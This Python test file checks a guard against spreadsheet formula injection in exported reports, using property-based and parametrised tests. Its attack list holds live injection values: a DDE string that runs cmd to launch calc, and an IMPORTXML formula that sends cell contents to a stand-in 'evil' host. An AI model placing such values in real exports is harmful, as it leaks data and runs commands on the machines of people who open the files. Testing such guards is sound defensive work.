"""No text becomes a formula, no number is mistaken for text, and nothing is lost on the way back."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconciler.report.formats.guarding import guarded, unguarded

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "   @x",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    '=HYPERLINK("http://evil")',
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil?", CONCATENATE(A2:E2)), "//a")',
    "'=1+1",
]
PLAIN = ["", "ch_123", "a=b", "Müller & Söhne", "'quoted'", "100.00", "it's -1", "…"]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_looks_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\r\n\0ab＝\u00a0")) | st.text())
def test_the_guard_comes_off_again_whatever_the_text_was(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text).lstrip(" \u00a0\u3000\ufeff")[:1] not in set("=+-@\t\r\n\0＝＋－＠")
